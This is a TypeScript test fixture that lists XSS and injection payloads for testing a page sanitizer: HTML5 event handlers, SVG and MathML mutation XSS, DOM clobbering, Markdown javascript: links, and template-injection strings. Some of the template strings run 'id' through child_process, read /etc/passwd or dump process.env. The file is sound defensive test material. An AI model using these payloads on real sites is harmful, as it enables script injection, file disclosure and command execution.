import { hostilePatterns } from "../fixtures/hostile-patterns.js";

/**
 * Further ways to smuggle script into a page, beside those of the OWASP list that the tests of the pages try. They follow the
 * categories of the "HTML5 Security Cheatsheet" (Mario Heiderich and others, https://html5sec.org), of DOM clobbering and
 * mutation XSS as its authors describe them, and of template and Markdown injection as OWASP's "Web Security Testing Guide"
 * lists it; all of them *from memory*, written anew. What would run sets `ran` on the window or opens a dialog.
 */
export const run = "window.ran=1,alert(1)";
export const elsewhere = "https://elsewhere.invalid/b";

/** Attributes and elements that came with HTML5. */
const newer = [
  `<form id=t></form><button form=t formaction="javascript:${run}">x</button>`,
  `<input onfocus="${run}" autofocus>`,
  `<input onblur="${run}" autofocus><input autofocus>`,
  `<video poster="javascript:${run}"></video>`,
  `<video><source onerror="javascript:${run}"></source></video>`,
  `<video onloadstart=${run} src=x></video>`,
  `<body onscroll=${run}><br><br><br><input autofocus>`,
  `<body oninput=${run}><input autofocus>`,
  `<body onpageshow=${run}>`,
  `<body onhashchange=${run}><a href=#>x</a>`,
  `<form onforminput=${run}><input></form>`,
  `<keygen autofocus onfocus=${run}>`,
  `<div draggable=true ondragstart="event.dataTransfer.setData('text/plain','x');${run}">x</div>`,
  `<div contenteditable onblur=${run}>x</div>`,
  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>y</button>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  `<output name=x onforminput=${run}>x</output>`,
  `<xss onpointerrawupdate=${run} style=display:block>x</xss>`,
  `<xss oncontentvisibilityautostatechange=${run} style="display:block;content-visibility:auto">x</xss>`,
  `<div onanimationstart=${run} style="animation:fade 1s">x</div>`,
  `<link rel=import href="${elsewhere}.html">`,
  `<link rel=preload as=script href="${elsewhere}.js">`,
  `<link rel=dns-prefetch href="//elsewhere.invalid">`,
  `<script type=module>import "${elsewhere}.js"</script>`,
  `<script type=importmap>{"imports":{"./copy.js":"${elsewhere}.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${elsewhere}"]}]}</script>`,
  `<portal src="${elsewhere}"></portal>`,
  `<fencedframe src="${elsewhere}"></fencedframe>`,
  `<a ping="${elsewhere}" href="#">x</a>`,
  `<img src=x loading=lazy onerror=${run}>`,
  `<picture><source srcset="${elsewhere}.png"><img></picture>`,
  `<track src="${elsewhere}.vtt" default onerror=${run}>`,
] as const;

/** Markup inside SVG and MathML, and what parsers turn into something else. */
const mutated = [
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=href to="javascript:${run}" /></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${run}" /><a id=x><text>x</text></a></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><handler type="text/javascript" ev:event="load">${run}</handler></svg>`,
  `<svg><image href="${elsewhere}.png" onload=${run}></svg>`,
  `<svg><script xlink:href="data:,${run}"></script></svg>`,
  `<noscript><style></noscript><img src=x onerror=${run}></style>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<xmp><img alt="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<template shadowrootmode=open><slot onslotchange=${run}></slot></template>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `<?php system('id'); ?><?xml-stylesheet href="javascript:${run}"?>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\u003cscript\u003e${run}\u003c/script\u003e \\u003cscript>${run}\\x3c/script>`,
  `＜script＞${run}＜/script＞`,
  `<ſcript>${run}</ſcript>`,
  `<img src=x on\u200berror=${run}>\u202e>x/ tpircs<`,
] as const;

/** Names that a page's own script may look up on the document, and what ends a block of data. */
const names = [
  `<a id=chosen name=chosen href="javascript:${run}">x</a><form name=body><input name=dataset></form>`,
  `<img name=getElementById><img name=querySelector>`,
  `{"@context":"</script><script>${run}</script>"}`,
  `<!--<script>`,
  `"};${run};//`,
  `\u2028${run}\u2029`.trim().replace(/[\u2028\u2029]/g, ""),
  `__proto__[ran]=1`,
  `constructor`,
  `*/{}*{background:url(${elsewhere}.png)}/*`,
  `WEBVTT --> 00:00.000 --> 00:01.000 <c onclick=${run}>x</c> <v "><script>`,
  `Routine\\r\\nX-Header: 1 %0d%0aX-Header: 1`,
  `) /S /JavaScript /JS (app.alert\\(1\\)) >> endobj (`,
  `(\\)/URI(javascript:app.alert\\(1\\)))`,
] as const;

/** What template languages would follow. */
const templates = [
  `{% include "/etc/passwd" %}{% include "library.yaml" %}`,
  `{% import "/etc/passwd" as x %}{{ x }}`,
  `{{ range.constructor("return process.env")() }}`,
  `{{ "x" | safe }}{{= ${run} }}{{{ x }}}`,
  `<%= process.env %><%- include("/etc/passwd") %>`,
  `#{process.mainModule.require("child_process").execSync("id")}`,
  `\${process.exit(9)}\`\${process.exit(9)}\``,
  `[[include:/etc/passwd]] {{> /etc/passwd }} !include /etc/passwd @include(/etc/passwd) <<[/etc/passwd]`,
  `{% raw %}{% endraw %}{% set x = cycler.__init__ %}`,
] as const;

/** Markdown that turns into more than it says. */
const markdown = [
  `[x](javascript&colon;${run})`,
  `[x](javascript&#58;${run})`,
  `[x](\\javascript:${run})`,
  `[x](<javascript:${run}>)`,
  `[x](&#x6A;avascript:${run})`,
  `[x]( javascript:${run})`,
  `[x](data:image/svg+xml,%3Csvg%20onload=${run}%3E)`,
  `[x](//elsewhere.invalid/c)`,
  `[x](\\\\elsewhere.invalid\\c)`,
  `[x](file:///etc/passwd)`,
  `[x](blob:https://example.org/1)`,
  `![x](javascript:${run})`,
  `![x](${elsewhere}.svg "t\\" onerror=\\"${run}")`,
  `![<img src=x onerror=${run}>](x.png)`,
  `[<img src=x onerror=${run}>](https://example.org)`,
  `[x](https://example.org/?a="><script>${run}</script>)`,
  `<https://example.org/"onmouseover="${run}>`,
  `https://example.org/"onmouseover="${run}`,
  `www.example.org/<script>${run}</script>`,
  `<mailto:a@example.org?subject="><script>${run}</script>>`,
  `\`<script>${run}</script>\``,
  `**<script>${run}</script>**`,
  `~~~html" onload="${run}`,
  `# x {#id onclick=${run}}`,
  `[^1] [^1]: <script>${run}</script>`,
  `:::raw <script>${run}</script>`,
  `$$\\href{javascript:${run}}{x}$$`,
] as const;

/** Those that are new here. */
export const furtherPatterns: readonly string[] = [...newer, ...mutated, ...names, ...templates, ...markdown];

/** A pattern as it stands in a text of one line. */
export function oneLine(pattern: string): string {
  return pattern.replace(/\s+/g, " ").trim();
}

/** Every pattern that is tried anywhere. */
export const allPatterns: readonly string[] = [...hostilePatterns, ...furtherPatterns].map(oneLine);
